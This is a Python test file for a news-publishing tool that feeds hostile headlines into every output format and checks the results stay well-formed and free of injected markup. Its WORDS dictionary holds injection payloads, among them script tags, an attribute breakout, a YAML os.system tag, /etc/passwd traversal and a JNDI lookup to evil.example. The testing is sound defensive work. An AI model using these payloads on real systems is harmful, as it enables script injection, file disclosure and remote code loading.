"""Hostile words: whatever a headline or an excerpt says, it changes nothing but itself, in any output."""

from __future__ import annotations

from functools import cache

import msgspec
import pytest
import yaml
from lxml import etree, html

from broadsheet import edition as editions
from broadsheet import plugins, text
from broadsheet.types import Edition

from . import coast

LONG = "an " + "extraordinarily " * 625  # 10,000 characters
WORDS = {
    "html": "</a></h3><script>window.__pwned=1</script><img src=x onerror=window.__pwned=1>",
    "attribute": '" onmouseover="window.__pwned=1" x="',
    "json-ld": '</script><!--<script>{"@type":"NewsArticle"}',
    "cdata": "]]></title><item><title>Another</title></item><![CDATA[",
    "entity": "&lt;b&gt; &amp;#8217; &#x202e; &unknown; %00",
    "yaml": "---\nheat: 99\npublished: true\n- *alias !!python/object:os.system [x",
    "yaml-quotes": 'it\'s "quoted": # not a comment \\ \\n {{ x }} {% raw %}',
    "markdown": "# Head [x](javascript:alert(1)) `code` ![y](https://evil.example/pixel.png)",
    "control": "bell\x07 escape\x1b[31m null\x00 form\x0c del\x7f next\x85line",
    "bidi": "\u202egnp.exe\u202c \u2066isolate\u2069 \u200fmark",
    "separator": "line\u2028paragraph\u2029end",
    "path": "../../../../etc/passwd",
    "reserved": "CON",
    "emoji": "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 \U0010ffff",
    "template": "{{ config.items() }} {%- include '/etc/passwd' -%} ${jndi:ldap://evil.example}",
    "long": LONG,
    "one-word": "x" * 10_000,
}
NUMBER = 20  # story that gets them: among the first of every list


@cache
def _published() -> Edition:
    return editions.marked(coast.edition(), b"")


def with_words(words: str) -> Edition:
    """The fictional edition with one story whose headline and excerpt say this, as ingesting cleans it."""
    made = coast.edition()
    story = made.stories[NUMBER]
    said = text.clean(text.unescape(words))
    lead = msgspec.structs.replace(story.lead, title=said[: text.TITLE], excerpt=said)
    changed = msgspec.structs.replace(story, articles=(lead, *story.articles[1:]))
    stories = (*made.stories[:NUMBER], changed, *made.stories[NUMBER + 1 :])
    return editions.marked(msgspec.structs.replace(made, stories=stories), b"")


@cache
def files_of(output: str, words: str = "") -> dict[str, bytes]:
    made = with_words(words) if words else _published()
    rendered = plugins.find("outputs", output).render(made)
    return {file.path: file.data for file in rendered}


OUTPUTS = plugins.names("outputs")


@pytest.mark.parametrize("kind", WORDS)
@pytest.mark.parametrize("output", OUTPUTS)
def test_every_file_stays_what_it_is(output, kind):
    """The same files are printed, and every one is well-formed."""
    plain, found = files_of(output), files_of(output, WORDS[kind])
    assert plain.keys() == found.keys()
    for path, data in found.items():
        if plain[path] != data:
            _well_formed(path, data)


def _well_formed(path: str, data: bytes) -> None:
    told = data.decode()
    assert "\0" not in told and "\x1b" not in told
    if path.endswith((".xml", ".opml")):
        etree.fromstring(data)
    elif path.endswith(".json"):
        msgspec.json.decode(data)
    elif path.endswith(".md"):
        assert isinstance(yaml.safe_load(told.split("\n---\n")[0].removeprefix("---\n")), dict)
    elif path.endswith(".html"):
        for script in html.document_fromstring(told).xpath("//script[@type='application/ld+json']"):
            msgspec.json.decode(script.text)


@pytest.mark.parametrize("kind", WORDS)
def test_a_page_gains_no_markup(kind):
    """Each page of the site has the elements and attributes that it has with plain words, one excerpt more or less."""
    plain, found = files_of("site", "Plain words"), files_of("site", WORDS[kind])
    for path in (path for path in found if path.endswith(".html") and found[path] != plain[path]):
        assert _markup(plain[path]) == _markup(found[path]), path


def _markup(page: bytes) -> list[tuple[str, tuple[str, ...]]]:
    return [(str(e.tag), tuple(sorted(e.attrib))) for e in html.document_fromstring(page).iter() if e.tag != "wbr"]


@pytest.mark.parametrize("kind", ["html", "entity", "cdata", "yaml-quotes", "bidi"])
def test_a_headline_is_read_as_it_was_said(kind):
    """The page of its story and the feeds give the very words back, once unescaped: not more and not less."""
    made = with_words(WORDS[kind])
    said = made.stories[NUMBER].lead.title
    page = files_of("site", WORDS[kind])[f"story/{made.stories[NUMBER].name}/index.html"]
    assert said in " ".join(html.document_fromstring(page.decode()).xpath("//h1")[0].text_content().split())
    rss = etree.fromstring(files_of("rss", WORDS[kind])["feed.xml"])
    assert said in [" ".join((title.text or "").split()) for title in rss.iter("title")]
    feed = msgspec.json.decode(files_of("jsonfeed", WORDS[kind])["feed.json"])
    assert said in [item["title"] for item in feed["items"]]


def test_entities_are_unescaped_at_ingest_and_escaped_once_when_printed():
    """Publishers escape once or twice; what is escaped more often is about an entity, and is read as that."""
    assert "we’ve" == text.unescape("we&#8217;ve") == text.unescape("we&amp;#8217;ve")
    assert "we&#8217;ve" == text.unescape("we&amp;amp;#8217;ve")
    page = files_of("site", "we&amp;amp;#8217;ve")[f"story/{_published().stories[NUMBER].name}/index.html"].decode()
    assert "we&amp;#8217;ve" in page and "we&amp;amp;" not in page
